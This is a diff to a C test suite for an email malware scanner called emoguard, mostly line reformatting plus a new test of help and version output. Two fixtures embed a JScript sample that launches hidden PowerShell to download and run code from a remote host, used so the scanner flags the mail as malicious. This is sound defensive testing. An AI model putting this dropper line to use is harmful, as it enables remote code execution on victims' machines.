@@ -46,7 +46,8 @@ static void writef(const char *name, const char *content)
 static int emoguard(const char *args, char **out)
 {
     char cmd[8192];
-    snprintf(cmd, sizeof cmd, "cd '%s' && EG_NO_PROGRESS=1 '%s' %s 2>/dev/null", tmp, EG_BINARY, args);
+    snprintf(cmd, sizeof cmd, "cd '%s' && EG_NO_PROGRESS=1 '%s' %s 2>/dev/null", tmp, EG_BINARY,
+             args);
     return eg_test_run(cmd, out, NULL);
 }
 
@@ -151,7 +152,8 @@ static void mbox_and_stdin(void **st)
 {
     (void)st;
     char mbox[8192];
-    snprintf(mbox, sizeof mbox, "From a@b Mon Jul  1 10:00:00 2024\n%s\nFrom c@d Mon Jul  1 10:01:00 2024\n%s\n",
+    snprintf(mbox, sizeof mbox,
+             "From a@b Mon Jul  1 10:00:00 2024\n%s\nFrom c@d Mon Jul  1 10:01:00 2024\n%s\n",
              CLEAN_MAIL, CLEAN_MAIL);
     writef("box.mbox", mbox);
     char *out = NULL;
@@ -198,8 +200,9 @@ static void extract_writes_safe_names_0600(void **st)
 static void declared_mails_are_parsed(void **st)
 {
     (void)st;
-    static const char js[] = "var s=new ActiveXObject(\"WScript.Shell\");s.Run(\"powershell -w hidden "
-                             "-c IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\");";
+    static const char js[] =
+        "var s=new ActiveXObject(\"WScript.Shell\");s.Run(\"powershell -w hidden "
+        "-c IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\");";
     char *b64 = eg_mb_base64((const uint8_t *)js, sizeof js - 1, true);
     char mail[8192];
     snprintf(mail, sizeof mail,
@@ -244,8 +247,9 @@ static void make_folder(void)
     writef("inbox/a.eml", CLEAN_MAIL);
     writef("inbox/b.eml", CLEAN_MAIL);
     writef("inbox/manifest.json", "{\"mails\": 3, \"exported\": \"2024-07-01\"}\n");
-    static const char js[] = "var s=new ActiveXObject(\"WScript.Shell\");s.Run(\"powershell -w hidden "
-                             "-c IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\");";
+    static const char js[] =
+        "var s=new ActiveXObject(\"WScript.Shell\");s.Run(\"powershell -w hidden "
+        "-c IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\");";
     char *b64 = eg_mb_base64((const uint8_t *)js, sizeof js - 1, true);
     char mail[8192];
     snprintf(mail, sizeof mail,
@@ -318,21 +322,24 @@ static void terminal_and_pipe_output(void **st)
     size_t n;
     char **l;
     /* a pipe: no bar, reports and the summary each on their own lines */
-    snprintf(cmd, sizeof cmd, "cd '%s' && '%s' scan -j 2 --summary inbox 2>&1 | cat", tmp, EG_BINARY);
+    snprintf(cmd, sizeof cmd, "cd '%s' && '%s' scan -j 2 --summary inbox 2>&1 | cat", tmp,
+             EG_BINARY);
     assert_int_equal(eg_test_run(cmd, &out, NULL), 0);
     assert_null(strstr(out, "\r"));
     assert_null(strstr(out, "\033"));
     l = rendered_lines(out, &n);
     assert_true(has_line_starting(l, n, "emoguard scan: inbox/manifest.json: not a mail, skipped"));
-    assert_true(has_line_starting(l, n, "3 mails: 2 clean, 0 suspicious, 1 malicious, 0 unreadable"));
+    assert_true(
+        has_line_starting(l, n, "3 mails: 2 clean, 0 suspicious, 1 malicious, 0 unreadable"));
     assert_true(has_line_starting(l, n, "files skipped as not mail: 1"));
     assert_true(has_line_starting(l, n, "flagged mails"));
-    assert_true(has_line_starting(
-        l, n, "  malicious | inbox/c.eml | billing@example.net | invoice 42 | "));
+    assert_true(
+        has_line_starting(l, n, "  malicious | inbox/c.eml | billing@example.net | invoice 42 | "));
     free_lines(l, n);
     free(out);
     /* the same without --summary: the summary (stderr) never lands inside a report (stdout) */
-    snprintf(cmd, sizeof cmd, "cd '%s' && '%s' scan -j 2 --no-color inbox 2>&1 | cat", tmp, EG_BINARY);
+    snprintf(cmd, sizeof cmd, "cd '%s' && '%s' scan -j 2 --no-color inbox 2>&1 | cat", tmp,
+             EG_BINARY);
     assert_int_equal(eg_test_run(cmd, &out, NULL), 0); /* cat's status */
     l = rendered_lines(out, &n);
     assert_true(has_line_starting(l, n, "3 mails: 2 clean"));
@@ -351,9 +358,10 @@ static void terminal_and_pipe_output(void **st)
     assert_non_null(strstr(out, "] 3/3"));
     l = rendered_lines(out, &n);
     no_bar_residue(l, n, out);
-    assert_true(has_line_starting(l, n, "3 mails: 2 clean, 0 suspicious, 1 malicious, 0 unreadable"));
-    assert_true(has_line_starting(
-        l, n, "  malicious | inbox/c.eml | billing@example.net | invoice 42 | "));
+    assert_true(
+        has_line_starting(l, n, "3 mails: 2 clean, 0 suspicious, 1 malicious, 0 unreadable"));
+    assert_true(
+        has_line_starting(l, n, "  malicious | inbox/c.eml | billing@example.net | invoice 42 | "));
     free_lines(l, n);
     free(out);
     snprintf(cmd, sizeof cmd,
@@ -404,12 +412,60 @@ static void options_getopt_long(void **st)
     free(out);
 }
 
+/* every subcommand's --help exits 0 and prints the one exit-code table; --version says more
+ * than the project version */
+static void help_and_version(void **st)
+{
+    (void)st;
+    static const char *const cmds[] = {"--help",
+                                       "scan --help",
+                                       "scan -h",
+                                       "rules --help",
+                                       "milter --help",
+                                       "intel --help",
+                                       "intel check --help",
+                                       "intel match --help",
+                                       "intel exposure --help",
+                                       "hostcheck --help",
+                                       "harden --help"};
+    for (size_t i = 0; i < sizeof cmds / sizeof cmds[0]; i++) {
+        char *out = NULL;
+        int rc = emoguard(cmds[i], &out);
+        if (rc != 0)
+            fail_msg("emoguard %s exited %d", cmds[i], rc);
+        free(out);
+    }
+    char *out = NULL;
+    assert_int_equal(emoguard("--help", &out), 0);
+    assert_non_null(
+        strstr(out, "exit codes (every command): 0 clean or done, 1 suspicious, 2 malicious"));
+    free(out);
+    assert_int_equal(emoguard("scan --help", &out), 0);
+    assert_non_null(strstr(out, "exit codes (every command)"));
+    free(out);
+    assert_int_equal(emoguard("rules --bogus", NULL), 3);
+    assert_int_equal(emoguard("milter --bogus", NULL), 3);
+    assert_int_equal(emoguard("--version", &out), 0);
+    assert_int_equal(strncmp(out, "emoguard ", 9), 0);
+    assert_non_null(strstr(out, "(library "));
+    static const char *const parts[] = {"rule table: ", " rules, fingerprint ",
+                                        "freemail.txt", "GMime ",
+                                        "libgsf ",      "libarchive ",
+                                        "OpenSSL ",     "YARA ",
+                                        "jansson ",     "libmilter "};
+    for (size_t i = 0; i < sizeof parts / sizeof parts[0]; i++)
+        if (!strstr(out, parts[i]))
+            fail_msg("--version lacks \"%s\":\n%s", parts[i], out);
+    free(out);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(usage_errors_exit_3),
         cmocka_unit_test(terminal_and_pipe_output),
         cmocka_unit_test(options_getopt_long),
+        cmocka_unit_test(help_and_version),
         cmocka_unit_test(clean_mail_json),
         cmocka_unit_test(empty_and_junk_inputs),
         cmocka_unit_test(unreadable_inputs_exit_4),
